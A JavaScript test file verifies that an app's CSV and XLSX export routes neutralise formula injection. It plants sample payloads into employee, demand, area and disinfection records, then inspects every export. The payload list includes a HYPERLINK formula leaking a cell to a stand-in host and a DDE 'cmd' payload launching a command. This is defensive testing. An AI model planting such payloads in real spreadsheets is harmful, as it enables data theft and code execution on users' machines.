// Exports neutralise formula cells (issue 7 item 4): values starting with
// = + - @ (and tab/CR) are written into text fields of the objects behind
// every export route of the route table; each export is fetched as CSV and
// XLSX; no CSV text cell may start with a formula character unless it is a
// plain number, the planted values appear neutralised ('=…), and an XLSX
// export holds no formula element at all (its text cells are strings).
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { ENGINE } from '../lib/harness.mjs';
import { firmA, startWorld, TODAY, idNumber } from './world.mjs';
import { unzip } from './unzip.mjs';

let w;
const PAYLOADS = ['=HYPERLINK("http://x.example/?"&A1,"点我")', '+86 139', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)'];

before(async () => {
  w = await startWorld({ objects: ['A'], users: ['enterprise_a', 'commander_a', 'inspector_a'] });
  const ok = (r, what) => assert.ok(r.status < 300, `${what}: ${r.status} ${r.text}`);
  // Plant the payloads in the text fields of side A's objects.
  for (const [i, p] of PAYLOADS.entries()) {
    ok(await w.api('POST', `/api/v1/enterprises/${firmA}/employees`, 'enterprise_a',
      { name: p.slice(0, 20), department: p, id_number: idNumber('220202', '19800101', 300 + i) }), 'employee');
    ok(await w.api('POST', '/api/v1/demands', 'enterprise_a', { category: 'labour', title: p, description: p }), 'demand');
    ok(await w.api('POST', `/api/v1/sites/${w.obj.A.site}/areas`, 'enterprise_a', { name: p.slice(0, 20) }), 'area');
    ok(await w.api('POST', `/api/v1/areas/${w.obj.A.area}/disinfections`, 'enterprise_a',
      { agent: p.slice(0, 40), person: p.slice(0, 40), note: p }), 'disinfection');
  }

});

after(async () => { await w?.s.stop(); });

// RFC 4180 cells of a CSV text (quoted or not), with whether each was quoted.
function csvCells(text) {
  const cells = [];
  let i = 0;
  while (i < text.length) {
    let v = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (i >= text.length) break;
        if (text[i] === '"') { if (text[i + 1] === '"') { v += '"'; i += 2; continue; } i++; break; }
        v += text[i++];
      }
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\n' && text[i] !== '\r') v += text[i++];
    }
    cells.push(v);
    if (text[i] === ',') i++;
    else while (text[i] === '\r' || text[i] === '\n') i++;
  }
  return cells;
}

test(`every export neutralises formula cells, in CSV and XLSX (${ENGINE})`, async () => {
  const routes = (await w.api('GET', '/api/v1/system/routes', 'admin')).body.items
    .filter((r) => r.method === 'GET' && /\/export$/.test(r.pattern));
  assert.ok(routes.length >= 5, `${routes.length} export routes`);
  let planted = 0, exports = 0;
  const skipped = [], ignored = [];
  for (const r of routes) {
    const path = r.pattern.replace('{uscc}', firmA).replace('{id}', String(w.obj.A.site)).replace('{date}', TODAY);
    for (const format of ['csv', 'xlsx']) {
      const sep = path.includes('?') ? '&' : '?';
      const res = await fetch(`${w.s.base}${path}${sep}format=${format}&date=${TODAY}&from=2020-02-01&to=2020-02-29`,
        { headers: { authorization: 'Bearer ' + w.admin } });
      const buf = Buffer.from(await res.arrayBuffer());
      assert.ok(res.status < 500, `${r.pattern} ${format}: ${res.status} ${buf.toString().slice(0, 200)}`);
      if (res.status !== 200) { skipped.push(`${r.pattern} ${format} (${res.status})`); continue; }
      exports++;
      const isZip = buf.subarray(0, 2).toString('latin1') === 'PK';
      if ((format === 'csv') === isZip) ignored.push(`${r.pattern} (${format} asked)`);
      if (!isZip) {
        const text = buf.toString('utf8').replace(/^\ufeff/, '');
        for (const cell of csvCells(text)) {
          if (/^[=+\-@\t\r]/.test(cell) && !/^[-+]?\d+(\.\d+)?([eE][-+]?\d+)?$/.test(cell))
            assert.fail(`${r.pattern} csv: cell ${JSON.stringify(cell)} is not neutralised`);
          if (PAYLOADS.some((p) => cell.includes("'" + p.slice(0, 15)))) planted++;
        }
      } else {
        const files = unzip(buf);
        const sheets = Object.keys(files).filter((n) => /^xl\/worksheets\/.*\.xml$/.test(n));
        assert.ok(sheets.length > 0, `${r.pattern}: no worksheet`);
        for (const n of sheets) assert.ok(!/<f[ >]/.test(files[n].toString()), `${r.pattern} xlsx ${n}: a formula cell`);
        const strings = Object.entries(files).filter(([n]) => /sharedStrings|worksheets/.test(n)).map(([, b]) => b.toString()).join('');
        if (PAYLOADS.some((p) => strings.includes(p.slice(0, 8).replace(/&/g, '&amp;').replace(/"/g, '&quot;')))) planted++;
      }
    }
  }
  console.log(`exports (${ENGINE}): ${routes.length} export routes, ${exports} files checked, ${planted} planted values seen; ` +
    `not exportable without more parameters: ${skipped.join(', ') || 'none'}; format parameter ignored: ${ignored.join(', ') || 'none'}`);
  assert.ok(planted >= 4, `planted values seen ${planted} times`);
});
